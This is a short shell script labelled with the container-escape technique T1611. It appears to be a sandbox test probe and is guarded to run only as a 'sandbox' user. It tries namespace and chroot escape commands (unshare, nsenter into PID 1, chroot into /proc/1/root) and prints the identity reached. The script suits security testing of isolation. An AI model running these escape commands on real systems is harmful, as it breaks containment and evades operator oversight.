#!/bin/sh
# technique: T1611
# needs: unshare nsenter
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

unshare -Urm sh -c 'mount -t tmpfs x /mnt; id'; nsenter -t 1 -a id; chroot /proc/1/root id
